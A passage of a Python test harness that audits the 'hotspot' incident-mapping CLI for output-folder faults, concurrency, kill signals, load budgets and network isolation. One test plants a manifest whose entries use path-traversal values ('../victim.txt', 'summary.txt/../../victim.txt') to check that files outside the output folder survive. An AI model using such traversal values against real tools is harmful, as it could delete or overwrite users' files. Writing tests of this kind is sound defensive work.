    return cli_first(run, ["out"], valid=True) or handled("the link's target untouched")


@case(
    "output folders and faults",
    "manifest-tampered",
    "an earlier manifest listing ../victim and /abs/victim with their true SHA-256",
)
def _(ctx: Ctx) -> Outcome:
    folder = ctx.p("out")
    folder.mkdir()
    victim = ctx.write("victim.txt", "precious")
    entry = {"sha256": _sha(victim), "bytes": 8}
    manifest = {
        "files": {"../victim.txt": entry, str(victim): entry, "summary.txt/../../victim.txt": entry}
    }
    ctx.write("out/hotspot_manifest.json", json.dumps(manifest))
    run, _ = analyze(ctx, None, out_path=folder)
    if not victim.exists():
        return out("security failure", "a file outside --out was deleted through the manifest")
    return cli_first(run, ["out"], valid=True) or handled("paths outside the folder ignored")


@case("output folders and faults", "out-is-symlink-to-dir", "--out is a symbolic link to a folder")
def _(ctx: Ctx) -> Outcome:
    real = ctx.p("real")
    real.mkdir()
    ctx.p("link").symlink_to(real, target_is_directory=True)
    run, _ = analyze(ctx, None, out_path=ctx.p("link"))
    first = cli_first(run, ["link"], valid=True)
    if first:
        return first
    return (
        handled("written into the link's folder")
        if (real / "summary.txt").exists()
        else out("silent wrong result", "outputs not where the link points")
    )


@case("output folders and faults", "out-dangling-symlink", "--out is a dangling symbolic link")
def _(ctx: Ctx) -> Outcome:
    ctx.p("dangling").symlink_to(ctx.p("nowhere"))
    run, _ = analyze(ctx, None, out_path=ctx.p("dangling"))
    first = cli_first(run, ["dangling"])
    return first or handled(
        "ran: wrote " + ("through the link" if ctx.p("nowhere").exists() else "somewhere")
    )


@case("output folders and faults", "out-is-file", "--out names an existing file")
def _(ctx: Ctx) -> Outcome:
    blocker = ctx.write("brief", "a file")
    run, _ = analyze(ctx, None, out_path=blocker)
    return cli_first(run, ["brief"]) or out("silent wrong result", "ran")


@case("output folders and faults", "out-under-file", "--out inside a path whose parent is a file")
def _(ctx: Ctx) -> Outcome:
    blocker = ctx.write("taken", "a file")
    run, _ = ctx.cli("gaps", "--out", blocker / "sub"), None
    return cli_first(run, ["taken"]) or out("silent wrong result", "ran")


@case("output folders and faults", "out-is-input", "--out names the input file itself")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("events.csv", csv_text(base_rows(30)))
    before = path.read_bytes()
    run = ctx.cli("analyze", path, "--out", path, "--no-png")
    if path.read_bytes() != before:
        return out("silent wrong result", "the input file was changed")
    return cli_first(run, ["events.csv"]) or out("silent wrong result", "ran")


@case(
    "output folders and faults",
    "input-inside-out",
    "the input file is named incidents.geojson and sits in --out",
)
def _(ctx: Ctx) -> Outcome:
    import geopandas as gpd

    folder = ctx.p("work")
    folder.mkdir()
    path = folder / "incidents.geojson"
    _points_gdf(30).to_file(path)
    ctx.record(path, note="the analyst's incident file")
    before = path.read_bytes()
    run = ctx.cli("analyze", path, "--out", folder, "--no-png", "--min-samples", "5")
    first = cli_first(run, ["incidents.geojson", "work"])
    if first:
        return first
    if path.read_bytes() != before:
        gone = len(gpd.read_file(path))
        warned = run.warned("incidents.geojson", "overwrit", "replace")
        return (
            handled("input replaced, with a warning", True)
            if warned
            else out(
                "silent wrong result",
                f"the input file was replaced by the output ({gone} features) without a word",
            )
        )
    return handled("input kept")


@case(
    "output folders and faults", "dir-under-output-name", "a folder named summary.txt inside --out"
)
def _(ctx: Ctx) -> Outcome:
    folder = ctx.p("out")
    (folder / "summary.txt").mkdir(parents=True)
    (folder / "summary.txt" / "mine.txt").write_text("mine", encoding="utf-8")
    ctx.note("setup: $T/out/summary.txt/ is a folder holding mine.txt")
    run, _ = analyze(ctx, None, out_path=folder)
    if not (folder / "summary.txt" / "mine.txt").exists():
        return out("silent wrong result", "the user's folder was removed")
    return cli_first(run, ["summary.txt"]) or out(
        "silent wrong result", "ran without writing summary.txt"
    )


def _readonly_case(cid: str, how: str) -> None:
    @case("output folders and faults", cid, f"read-only --out ({how}) (issue #15)")
    def _(ctx: Ctx) -> Outcome:
        path = ctx.write("ev.csv", csv_text(base_rows(30)))
        folder = ctx.p("ro")
        folder.mkdir()
        (folder / "old.txt").write_text("old", encoding="utf-8")
        if how == "unprivileged user":
            if not shutil.which("setpriv"):
                raise HarnessError("setpriv not available")
            os.chmod(ctx.root.parent, 0o755)  # the run's private folder, made by this harness
            os.chmod(ctx.root, 0o755)
            os.chmod(path, 0o644)
            os.chmod(folder, 0o555)
            command = [
                "setpriv",
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
                *HOTSPOT,
                "analyze",
                str(path),
                "--out",
                str(folder),
                "--no-png",
            ]
            run = ctx.run(
                command,
                shown=(
                    "(as user nobody, $T/ro mode 555) hotspot analyze $T/ev.csv --out $T/ro "
                    "--no-png"
                ),
            )
        else:
            if not shutil.which("unshare"):
                raise HarnessError("unshare not available")
            inner = (
                f"mount --bind {shlex.quote(str(folder))} {shlex.quote(str(folder))} && "
                f"mount -o remount,bind,ro {shlex.quote(str(folder))} && exec "
                + shlex.join([*HOTSPOT, "analyze", str(path), "--out", str(folder), "--no-png"])
            )
            run = ctx.run(
                ["unshare", "-m", "sh", "-c", inner],
                shown=(
                    "(in a mount namespace where $T/ro is a read-only bind mount) hotspot "
                    "analyze $T/ev.csv --out $T/ro --no-png"
                ),
            )
        if "Operation not permitted" in run.stderr and "mount" in run.stderr:
            raise HarnessError("cannot make a read-only mount here")
        return cli_first(run, ["ro"]) or out("silent wrong result", "exit 0 on a read-only folder")


_readonly_case("readonly-out-user", "unprivileged user")
_readonly_case("readonly-out-mount", "read-only bind mount")


@case(
    "output folders and faults",
    "file-size-limit",
    "a run that hits the file-size limit (RLIMIT_FSIZE 200 KB; a full disk)",
)
def _(ctx: Ctx) -> Outcome:
    import resource

    folder = ctx.p("out")
    first_run, _ = analyze(ctx, None, out_path=folder)
    if first_run.rc != 0:
        raise HarnessError("the first run failed")
    before = {p.name: _sha(p) for p in folder.iterdir() if p.is_file()}

    # below the largest outputs of a small run (the map, the GeoPackage: ~0.5 MB each)
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (200_000, 200_000))

    path = ctx.write("ev.csv", csv_text(base_rows(30)))
    run = ctx.run(
        [*HOTSPOT, "analyze", str(path), "--out", str(folder), "--no-png", "--min-samples", "5"],
        preexec=limit,
        shown="(ulimit -f 200) hotspot analyze $T/ev.csv --out $T/out --no-png",
    )
    after = {p.name: _sha(p) for p in folder.iterdir() if p.is_file()}
    if run.rc == 0:
        return out("silent wrong result", "exit 0 although files could not be written")
    broken = _complete_files(folder)
    if broken:
        return out("silent wrong result", f"after the failed run: {broken}")
    if after != before:
        changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
        return out("silent wrong result", f"the failed run changed the folder: {changed[:5]}")
    verdict = cli_first(run, ["out", "file too large", "space", "ev.csv"]) or out(
        "silent wrong result", "?"
    )
    return Outcome(verdict.category, verdict.reason + "; the folder was left as it was")


def _concurrent_case(cid: str, command: str, trials: int) -> None:
    @case(
        "output folders and faults",
        cid,
        f"two concurrent `hotspot {command}` runs into one folder, {trials} trials (issue #15)",
        timeout=400,
    )
    def _(ctx: Ctx) -> Outcome:
        path = ctx.write("ev.csv", csv_text(base_rows(30)))
        problems, refused, crashed = [], 0, 0
        for trial in range(trials):
            folder = ctx.p(f"out{trial}")
            if command == "analyze":
                cmds = [
                    [*HOTSPOT, "analyze", "--out", str(folder), "--no-png", "-q"],
                    [
                        *HOTSPOT,
                        "analyze",
                        str(path),
                        "--out",
                        str(folder),
                        "--no-png",
                        "-q",
                        "--min-samples",
                        "5",
                    ],
                ]
            else:
                cmds = [
                    [*HOTSPOT, "gaps", "--out", str(folder), "--coverage-m", str(c)]
                    for c in (0, 1500)
                ]
            ctx.note(
                f"trial {trial}: "
                + " & ".join(
                    ctx.show(shlex.join(c)).replace(shlex.join(HOTSPOT), "hotspot") for c in cmds
                )
            )
            procs = [
                subprocess.Popen(
                    c,
                    stdout=subprocess.PIPE,
                    stderr=subprocess.PIPE,
                    text=True,
                    cwd=ctx.root,
                    env=ctx.env(),
                )
                for c in cmds
            ]
            results = [(p.wait(timeout=180), p.communicate()) for p in procs]
            for rc, (_, err) in results:
                if TRACEBACK in err:
                    crashed += 1
                    problems.append(
                        f"trial {trial}: traceback {err.strip().splitlines()[-1][:120]}"
                    )
                elif rc == 1 and "another hotspot run" in err:
                    refused += 1
                elif rc != 0:
                    crashed += 1
                    problems.append(f"trial {trial}: exit {rc}: {err.strip()[:160]}")
            bad = _manifest_consistent(folder) or _complete_files(folder)
            if bad:
                problems.append(f"trial {trial}: {bad}")
        what = f"{trials} trials: {refused} run(s) refused as busy, {crashed} crashed"
        if any("traceback" in p for p in problems):
            return out("raw traceback", f"{what}; {problems[0]}")
        if problems:
            return out("silent wrong result", f"{what}; {problems[0]}")
        return handled(f"{what}; every folder one consistent set")


_concurrent_case("concurrent-analyze", "analyze", 3)
_concurrent_case("concurrent-gaps", "gaps", 3)


@case(
    "output folders and faults",
    "concurrent-api-threads",
    "Analysis.write into one folder from two threads at once",
)
def _(ctx: Ctx) -> Outcome:
    import threading

    from hotspot.analyze import analyze as run_analysis

    result = run_analysis(min_samples=5)
    folder = ctx.p("out")
    errors: list[BaseException] = []

    def write() -> None:
        try:
            result.write(folder, png=False)
        except Exception as exc:
            errors.append(exc)

    ctx.note("two threads: analyze().write('$T/out', png=False) at the same time")
    threads = [threading.Thread(target=write) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    from hotspot.errors import OutputError

    odd = [e for e in errors if not isinstance(e, OutputError)]
    if odd:
        return out("raw traceback", f"{type(odd[0]).__name__}: {odd[0]}")
    bad = _manifest_consistent(folder) or _complete_files(folder)
    if bad:
        return out("silent wrong result", bad)
    return handled(f"{len(errors)} write(s) refused as busy; the folder is one consistent set")


def _wait_for(predicate: Callable[[], bool], limit: float) -> bool:
    end = time.perf_counter() + limit
    while time.perf_counter() < end:
        if predicate():
            return True
        time.sleep(0.002)
    return False


@case(
    "output folders and faults",
    "sigkill-mid-run",
    "SIGKILL at several points of a run over a complete earlier run (issue #15)",
    timeout=400,
)
def _(ctx: Ctx) -> Outcome:
    folder = ctx.p("out")
    first, _ = analyze(ctx, None, out_path=folder)
    if first.rc != 0:
        raise HarnessError("the first run failed")
    json.loads((folder / "hotspot_manifest.json").read_text(encoding="utf-8"))["files"]
    path = ctx.write("ev.csv", csv_text(base_rows(30)))
    cmd = [
        *HOTSPOT,
        "analyze",
        str(path),
        "--out",
        str(folder),
        "--no-png",
        "-q",
        "--min-samples",
        "5",
    ]
    problems = []
    for delay in (0.5, 1.0, 1.5, 2.0, 2.5, 3.0):
        proc = subprocess.Popen(
            cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=ctx.root
        )
        time.sleep(delay)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        broken = _complete_files(folder)
        if broken:
            problems.append(f"killed at {delay} s: {broken}")
        mixed = _manifest_consistent(folder)
        if mixed:
            problems.append(f"killed at {delay} s: {mixed}")
        if proc.returncode == 0:
            json.loads((folder / "hotspot_manifest.json").read_text(encoding="utf-8"))["files"]
    ctx.note(
        "hotspot analyze $T/ev.csv --out $T/out --no-png -q --min-samples 5, killed with SIGKILL "
        "after 0.5, 1, ... 3 s"
    )
    again = ctx.cli("analyze", path, "--out", folder, "--no-png", "-q", "--min-samples", "5")
    if again.rc != 0 or list(folder.glob(".hotspot-staging-*")):
        problems.append(
            f"the next run: exit {again.rc}, leftovers "
            f"{[p.name for p in folder.glob('.hotspot-staging-*')]}"
        )
    if problems:
        return out("silent wrong result", "; ".join(problems[:3]))
    return handled("after every kill: complete files, consistent manifest; the next run cleans up")


@case(
    "output folders and faults",
    "sigkill-during-commit",
    "SIGKILL the moment the first output is renamed into place",
    timeout=300,
)
def _(ctx: Ctx) -> Outcome:
    folder = ctx.p("out")
    first, _ = analyze(ctx, None, out_path=folder)
    if first.rc != 0:
        raise HarnessError("the first run failed")
    path = ctx.write("ev.csv", csv_text(base_rows(30)))
    cmd = [
        *HOTSPOT,
        "analyze",
        str(path),
        "--out",
        str(folder),
        "--no-png",
        "-q",
        "--min-samples",
        "5",
    ]
    ctx.note(
        "hotspot analyze $T/ev.csv --out $T/out ..., SIGKILL as soon as $T/out/analysis.gpkg "
        "changes inode (the commit)"
    )
    pristine = ctx.p("pristine")
    shutil.copytree(folder, pristine)  # the complete earlier run, restored before each trial
    results = []
    for _trial in range(3):
        shutil.rmtree(folder)
        shutil.copytree(pristine, folder)
        watched = folder / "analysis.gpkg"
        inode = os.stat(watched).st_ino
        proc = subprocess.Popen(
            cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=ctx.root
        )
        hit = False
        end = time.perf_counter() + 120
        while proc.poll() is None and time.perf_counter() < end:
            try:
                if os.stat(watched).st_ino != inode:
                    proc.send_signal(signal.SIGKILL)
                    hit = True
                    break
            except FileNotFoundError:
                pass
        proc.wait()
        mixed = _manifest_consistent(folder)
        broken = _complete_files(folder)
        results.append((hit, mixed, broken))
    killed = sum(1 for h, _, _ in results if h)
    bad = [m or b for h, m, b in results if h and (m or b)]
    if bad:
        return out(
            "silent wrong result",
            f"{len(bad)} of {killed} kills during the commit left a mixed set: {bad[0][:200]}",
        )
    return handled(f"{killed} kill(s) during the commit; every folder one consistent set")


@case("output folders and faults", "sigint-mid-run", "Ctrl-C (SIGINT) during a run")
def _(ctx: Ctx) -> Outcome:
    folder = ctx.p("out")
    path = ctx.write("ev.csv", csv_text(base_rows(30)))
    proc = subprocess.Popen(
        [*HOTSPOT, "analyze", str(path), "--out", str(folder), "--no-png", "--min-samples", "5"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=ctx.root,
    )
    ctx.note(
        "hotspot analyze $T/ev.csv --out $T/out --no-png; SIGINT once the staging folder exists"
    )
    _wait_for(lambda: bool(list(folder.glob(".hotspot-staging-*"))), 60)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    if TRACEBACK in err:
        return out("raw traceback", f"exit {proc.returncode}: {err.strip().splitlines()[-1][:200]}")
    broken = _complete_files(folder) if folder.exists() else None
    if broken:
        return out("silent wrong result", broken)
    left = [p.name for p in folder.glob(".hotspot-staging-*")] if folder.exists() else []
    return handled(f"exit {proc.returncode}: {err.strip()[:80]!r}; staging left: {left}")


@case(
    "output folders and faults",
    "stale-png-after-no-png",
    "--no-png on other data after a run with a PNG: the old PNG must go (issue #15)",
    timeout=300,
)
def _(ctx: Ctx) -> Outcome:
    folder = ctx.p("out")
    run, _ = analyze(ctx, None, out_path=folder, png=True)
    if not (folder / "briefing_map.png").exists():
        raise HarnessError(f"the PNG run wrote no PNG: {run.observed()}")
    path = ctx.write("ev.csv", csv_text(base_rows(30)))
    second, _ = analyze(ctx, path, "--out", folder)
    first = cli_first(second, ["out"], valid=True)
    if first:
        return first
    if (folder / "briefing_map.png").exists():
        return out("silent wrong result", "a PNG of the other data survives beside the new outputs")
    return handled("old PNG removed")


@case(
    "output folders and faults",
    "stale-after-gaps",
    "hotspot gaps into a folder that holds an analyze run of other data",
)
def _(ctx: Ctx) -> Outcome:
    folder = ctx.p("out")
    first, _ = analyze(ctx, None, out_path=folder)
    if first.rc != 0:
        raise HarnessError("the analyze run failed")
    run, _ = _gaps(ctx, out_name="out")
    bad = cli_first(run, ["out"], valid=True)
    if bad:
        return bad
    manifest = json.loads((folder / "hotspot_manifest.json").read_text(encoding="utf-8"))
    stale = sorted(
        p.name
        for p in folder.iterdir()
        if p.is_file() and p.name not in manifest["files"] and p.name != "hotspot_manifest.json"
    )
    if stale:
        return out(
            "silent wrong result",
            f"outputs of the earlier analyze run left beside the gaps outputs: {stale[:6]}",
        )
    return handled("earlier outputs removed")


@case(
    "output folders and faults", "user-files-kept", "the analyst's own files in --out survive a run"
)
def _(ctx: Ctx) -> Outcome:
    folder = ctx.p("out")
    mine = {"notes.txt": "mine", "edited_hotspots.geojson": "{}", "old_brief.pdf": "%PDF"}
    for name, text in mine.items():
        ctx.write(f"out/{name}", text)
    run, _ = analyze(ctx, None, out_path=folder)
    first = cli_first(run, ["out"], valid=True)
    if first:
        return first
    gone = [n for n in mine if not (folder / n).exists()]
    return out("silent wrong result", f"user files removed: {gone}") if gone else handled("kept")


@case(
    "output folders and faults",
    "paths-unicode-spaces",
    "input and --out paths with spaces, Arabic and accents",
)
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("my data/أحداث كركوك é.csv", csv_text(base_rows(30)))
    run, folder = analyze(ctx, path, out_name="out dir/تقرير é")
    first = cli_first(run, ["out dir"], valid=True)
    return first or (
        handled("written")
        if (folder / "summary.txt").exists()
        else out("silent wrong result", "no summary")
    )


@case(
    "output folders and faults",
    "out-leading-dash",
    "--out=-brief (a folder name starting with a dash)",
)
def _(ctx: Ctx) -> Outcome:
    run = ctx.cli("gaps", "--out=-brief")
    first = cli_first(run, ["-brief"], valid=True)
    return first or (
        handled("written")
        if ctx.p("-brief", "gaps_zones.geojson").exists()
        else out("silent wrong result", "not written")
    )


@case(
    "output folders and faults",
    "no-chromium",
    "the PNG step with no Chromium on PATH: everything else written, the missing PNG said "
    "(exit 0 and a note: a state of the machine; exit 3 for a Chromium that fails)",
    timeout=240,
)
def _(ctx: Ctx) -> Outcome:
    bindir = ctx.p("bin")
    bindir.mkdir()
    env = ctx.env(PATH=str(bindir))
    run, folder = analyze(ctx, None, png=True, env=env)
    if run.timed_out or TRACEBACK in run.stderr:
        return cli_first(run, [])
    if (
        run.rc == 3
        and (folder / "summary.txt").exists()
        and "briefing_map.png" in summary_of(folder)
    ):
        return handled("exit 3; summary.txt names the missing PNG", run.warned())
    if run.rc == 0 and not (folder / "briefing_map.png").exists():
        said = (folder / "summary.txt").exists() and "briefing_map.png" in summary_of(folder)
        if said and "chromium" in run.stderr.lower():
            return handled("exit 0; a note and summary.txt name the missing PNG", True)
        return out("silent wrong result", "exit 0 without a PNG, nothing said")
    return cli_error(run, ["chromium", "png"]) if run.rc else handled("a PNG anyway")


@case(
    "output folders and faults",
    "png-timeout-tiny",
    "--png-timeout 0.05: exit 3, other outputs and summary written",
    timeout=240,
)
def _(ctx: Ctx) -> Outcome:
    run, folder = analyze(ctx, None, "--png-timeout", "0.05", png=True)
    if run.timed_out or TRACEBACK in run.stderr:
        return cli_first(run, [])
    if (
        run.rc == 3
        and "briefing_map.png" in summary_of(folder)
        and (folder / "briefing_map.html").exists()
    ):
        return handled("exit 3; the summary names the PNG failure", run.warned())
    return (
        cli_error(run, ["png", "timeout"])
        if run.rc
        else out("silent wrong result", f"exit {run.rc}")
    )


@case(
    "output folders and faults",
    "no-hotspot-exit",
    "analyze with too few incidents for a hotspot (issue #15 / #9)",
)
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("three.csv", csv_text(base_rows(3)))
    run, folder = ctx.cli("analyze", path, "--out", ctx.p("out"), "--no-png"), ctx.p("out")
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    missing = [
        n for n in ANALYZE_NAMES if n not in ("briefing_map.png",) and not (folder / n).exists()
    ]
    if missing:
        return out("silent wrong result", f"exit 0 but missing {missing}")
    return (
        handled("exit 0, every output, 'No hotspot' stated")
        if "no hotspot" in summary_of(folder).lower()
        else out("silent wrong result", "summary does not say there is no hotspot")
    )


@case("output folders and faults", "broken-pipe", "geocode output piped into `head -c 100`")
def _(ctx: Ctx) -> Outcome:
    names = ctx.write("names.txt", "Kirkuk\nMosul\nDaquq\n" * 3000)
    command = (
        f"{shlex.join(HOTSPOT)} geocode --file {shlex.quote(str(names))} | head -c 100 >/dev/null"
    )
    run = ctx.run(["sh", "-c", command], shown="hotspot geocode --file $T/names.txt | head -c 100")
    if TRACEBACK in run.stderr or "BrokenPipeError" in run.stderr:
        return out("raw traceback", f"{run.stderr.strip().splitlines()[-1][:200]}")
    return handled(f"quiet exit: {run.stderr.strip()[:100]!r}")


@case(
    "output folders and faults",
    "out-special-file",
    "a single-file --out that is a character device (a copy of /dev/full made in the temp folder)",
)
def _(ctx: Ctx) -> Outcome:
    import stat as stat_

    dump = ctx.write(
        "IQ.txt",
        "\t".join(
            [
                "99999001",
                "Tall Audit",
                "Tall Audit",
                "",
                "35.2",
                "44.1",
                "P",
                "PPL",
                "IQ",
                "",
                "10",
                "",
                "",
                "",
                "0",
                "",
                "300",
                "Asia/Baghdad",
                "2024-01-01",
            ]
        )
        + "\n",
    )
    device = ctx.p("full")
    try:  # never a real /dev node: our own node in our own temp folder
        os.mknod(device, 0o666 | stat_.S_IFCHR, os.makedev(1, 7))
        kind = "character device 1,7 (like /dev/full)"
    except (PermissionError, AttributeError):
        os.mkfifo(device)
        kind = "FIFO"
    ctx.note(f"setup: $T/full is a {kind}")
    run = ctx.cli("fetch", "geonames", "--from", dump, "--out", device)
    mode = os.lstat(device).st_mode
    replaced = stat_.S_ISREG(mode)
    first = cli_first(run, ["full"])
    if replaced:
        return out(
            "silent wrong result",
            f"the {kind} at --out was replaced by a regular file (exit {run.rc}); "
            "run as root with --out /dev/full or /dev/null this replaces the system's device node",
        )
    return first or handled("written into the special file")


# ====================================================================== load
def _synthetic(n: int):
    sys.path.insert(0, str(ROOT / "benchmarks"))
    from bench_dbscan import synthetic  # the project's generator of ACLED-like points

    return synthetic(n)


def _cluster_case(cid: str, n: int, budget_s: float, heavy: bool) -> None:
    @case(
        "load",
        cid,
        f"find_hotspots on {n:,} synthetic points (budget {budget_s:g} s)",
        heavy=heavy,
        timeout=budget_s * 4 + 60,
    )
    def _(ctx: Ctx) -> Outcome:
        import geopandas as gpd
        import pandas as pd

        from hotspot.hotspots import find_hotspots

        lat, lon, days = _synthetic(n)
        frame = gpd.GeoDataFrame(
            {"date": pd.Timestamp("2020-01-01") + pd.to_timedelta(days, unit="D"), "precision": 1},
            geometry=gpd.points_from_xy(lon, lat),
            crs=4326,
        )
        call = ctx.api(
            find_hotspots,
            frame,
            eps_m=5000,
            min_samples=10,
            shown=(
                f"find_hotspots(<{n:,} points from benchmarks/bench_dbscan.synthetic>, "
                "eps_m=5000, min_samples=10)"
            ),
        )
        if call.exc is not None:
            return api_error(call, [], valid=True)
        what = f"{len(call.value.hotspots):,} hotspots in {call.seconds:.1f} s"
        return (
            handled(what)
            if call.seconds <= budget_s
            else out("timeout", f"over the {budget_s:g} s budget: {what}")
        )


_cluster_case("cluster-200k", 200_000, 20, heavy=False)
_cluster_case("cluster-1m", 1_000_000, 60, heavy=True)


def _big_csv(ctx: Ctx, n: int, name: str = "big.csv") -> Path:
    lat, lon, days = _synthetic(n)
    start = time.perf_counter()
    lines = ["id,date,latitude,longitude,event_type,fatalities"]
    base = 737425  # 2020-01-01 as a proleptic ordinal
    import datetime as dt

    for i in range(n):
        day = dt.date.fromordinal(base + int(days[i])).isoformat()
        lines.append(f"S{i},{day},{lat[i]},{lon[i]},Explosions,{i % 3}")
    path = ctx.p(name)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    ctx.note(
        f"input: {name}, {n:,} synthetic incidents (benchmarks/bench_dbscan.synthetic), built in "
        f"{time.perf_counter() - start:.0f} s"
    )
    return path


@case("load", "read-200k-csv", "read_incidents on a 200,000-row CSV (budget 60 s)", timeout=300)
def _(ctx: Ctx) -> Outcome:
    from hotspot.incidents import read_incidents

    path = _big_csv(ctx, 200_000)
    call = ctx.api(read_incidents, path, shown="hotspot.read_incidents('$T/big.csv')")
    if call.exc is not None:
        return api_error(call, [], valid=True)
    if len(call.value) != 200_000:
        return out("silent row loss", f"200,000 in, {len(call.value)} out")
    return (
        handled(f"{call.seconds:.1f} s")
        if call.seconds < 60
        else out("timeout", f"{call.seconds:.0f} s")
    )


@case(
    "load",
    "analyze-20k-cli",
    "hotspot analyze on 20,000 incidents, no PNG (budget 120 s)",
    timeout=400,
)
def _(ctx: Ctx) -> Outcome:
    path = _big_csv(ctx, 20_000)
    run, folder = analyze(ctx, path, timeout=300)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    n = len(features(folder / "incidents.geojson"))
    if n != 20_000:
        return out("silent row loss", f"20,000 in, {n} out")
    return (
        handled(f"{run.seconds:.0f} s, peak RSS {run.maxrss_mb:.0f} MB")
        if run.seconds < 120
        else out("timeout", f"{run.seconds:.0f} s")
    )


@case(
    "load",
    "analyze-100k-png",
    "hotspot analyze on 100,000 incidents WITH the PNG (issue #15: Chromium timed out)",
    heavy=True,
    timeout=1500,
)
def _(ctx: Ctx) -> Outcome:
    path = _big_csv(ctx, 100_000)
    run, folder = analyze(ctx, path, png=True, timeout=1400)
    if run.timed_out or TRACEBACK in run.stderr:
        return cli_first(run, [])
    if not (folder / "summary.txt").exists():
        return out("silent wrong result", f"no summary.txt; {run.observed()}")
    if run.rc == 3:
        return handled(f"exit 3 after {run.seconds:.0f} s: PNG failed, named in the summary", True)
    if run.rc == 0:
        return handled(f"PNG written in a {run.seconds:.0f} s run, peak RSS {run.maxrss_mb:.0f} MB")
    return cli_error(run, [path.name, "png"])


@case(
    "load", "geocode-20k-names", "geocode 20,000 distinct made-up names (budget 60 s)", timeout=300
)
def _(ctx: Ctx) -> Outcome:
    from hotspot.geocode import geocode

    rng = random.Random(7)
    syll = [
        "al",
        "kir",
        "kuk",
        "tal",
        "zab",
        "qar",
        "mos",
        "ul",
        "da",
        "quq",
        "ha",
        "wi",
        "ja",
        "ban",
        "ra",
    ]
    names = list(
        {
            " ".join("".join(rng.choice(syll) for _ in range(3)).title() for _ in range(2))
            for _ in range(21_000)
        }
    )[:20_000]
    call = ctx.api(geocode, names, shown="hotspot.geocode(<20,000 random syllable names>)")
    if call.exc is not None:
        return api_error(call, [], valid=True)
    if len(call.value) != len(names):
        return out("silent row loss", f"{len(names)} in, {len(call.value)} out")
    return (
        handled(f"{call.seconds:.1f} s")
        if call.seconds < 60
        else out("timeout", f"{call.seconds:.0f} s")
    )


@case(
    "load",
    "gaps-dense-line",
    "hotspot gaps with a federal line of 100,000 vertices (budget 120 s)",
    timeout=400,
)
def _(ctx: Ctx) -> Outcome:
    import geopandas as gpd
    import shapely

    line = _bundled_line("federal").geometry.iloc[0]
    dense = shapely.segmentize(line, line.length / 100_000)
    path = ctx.p("dense.geojson")
    gpd.GeoDataFrame({"side": ["federal"]}, geometry=[dense], crs=4326).to_file(path)
    ctx.record(path, note=f"the bundled federal line with {len(dense.coords):,} vertices")
    run, _folder = _gaps(ctx, "--federal", path)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    return (
        handled(f"{run.seconds:.0f} s")
        if run.seconds < 120
        else out("timeout", f"{run.seconds:.0f} s")
    )


@case("load", "many-reports", "hotspot analyze on 300 news reports (budget 120 s)", timeout=400)
def _(ctx: Ctx) -> Outcome:
    places = ["Daquq", "Hawija", "Tuz Khurmatu", "Makhmur", "Khanaqin", "Sinjar"]
    paths = []
    for i in range(300):
        paths.append(ctx.p(f"r/report{i:03d}.txt"))
        paths[-1].parent.mkdir(exist_ok=True)
        paths[-1].write_text(
            f"Published: 2024-{i % 12 + 1:02d}-{i % 27 + 1:02d}\nIS militants attacked a "
            "checkpoint near "
            f"{places[i % 6]}, killing {i % 4} soldiers.\n",
            encoding="utf-8",
        )
    ctx.note(
        "input: 300 reports $T/r/report000.txt ... 'Published: <date>\\nIS militants attacked a "
        "checkpoint near <place>, ...'"
    )
    run = ctx.cli("analyze", *paths, "--out", ctx.p("out"), "--no-png", "-q", timeout=300)
    first = cli_first(run, ["report"], valid=True)
    if first:
        return first
    return (
        handled(f"{run.seconds:.0f} s")
        if run.seconds < 120
        else out("timeout", f"{run.seconds:.0f} s")
    )


# ====================================================================== network
_SITECUSTOMIZE = """
import os, socket
_LOG = os.environ.get("AUDIT_NET_LOG")
def _blocked(what, args):
    if _LOG:
        with open(_LOG, "a") as fh:
            fh.write(f"{what} {args!r}\\n")
    raise OSError(101, "network is blocked by the audit")
_connect, _connect_ex = socket.socket.connect, socket.socket.connect_ex
def connect(self, address):
    if self.family == socket.AF_UNIX:
        return _connect(self, address)
    _blocked("connect", address)
def connect_ex(self, address):
    if self.family == socket.AF_UNIX:
        return _connect_ex(self, address)
    _blocked("connect_ex", address)
def sendto(self, *args):
    if self.family == socket.AF_UNIX:
        return socket.socket.__dict__.get("_audit_sendto")(self, *args)
    _blocked("sendto", args[-1])
def getaddrinfo(host, *args, **kwargs):
    _blocked("getaddrinfo", host)
socket.socket.connect = connect
socket.socket.connect_ex = connect_ex
socket.getaddrinfo = getaddrinfo
socket.create_connection = lambda address, *a, **k: _blocked("create_connection", address)
"""


def _blocked_env(ctx: Ctx) -> tuple[dict[str, str], Path]:
    site = ctx.p("netblock")
    site.mkdir(exist_ok=True)
    (site / "sitecustomize.py").write_text(_SITECUSTOMIZE, encoding="utf-8")
    log = ctx.p("network-attempts.log")
    env = ctx.env(PYTHONPATH=str(site), AUDIT_NET_LOG=str(log))
    ctx.note(
        "setup: a sitecustomize.py on PYTHONPATH replaces socket connect/getaddrinfo with a "
        "logger that raises"
    )
    return env, log


def _attempts(log: Path) -> list[str]:
    return log.read_text(encoding="utf-8").splitlines() if log.exists() else []


@case(
    "network", "import-no-network", "import hotspot (and every public module) with sockets blocked"
)
def _(ctx: Ctx) -> Outcome:
    env, log = _blocked_env(ctx)
    code = (
        "import hotspot, hotspot.cli, hotspot.maps, hotspot.download, hotspot.datasets, "
        "hotspot.reports, "
        "hotspot.emerging, hotspot.locate, hotspot.boundaries; import socket; "
        "print(socket.getaddrinfo.__module__)"
    )
    run = ctx.run(
        [sys.executable, "-c", code], env=env, shown=f"python -c {code!r}  (sockets blocked)"
    )
    if not run.stdout.strip():
        raise HarnessError(f"the sitecustomize did not load: {run.stderr[-200:]}")
    hits = _attempts(log)
    if hits:
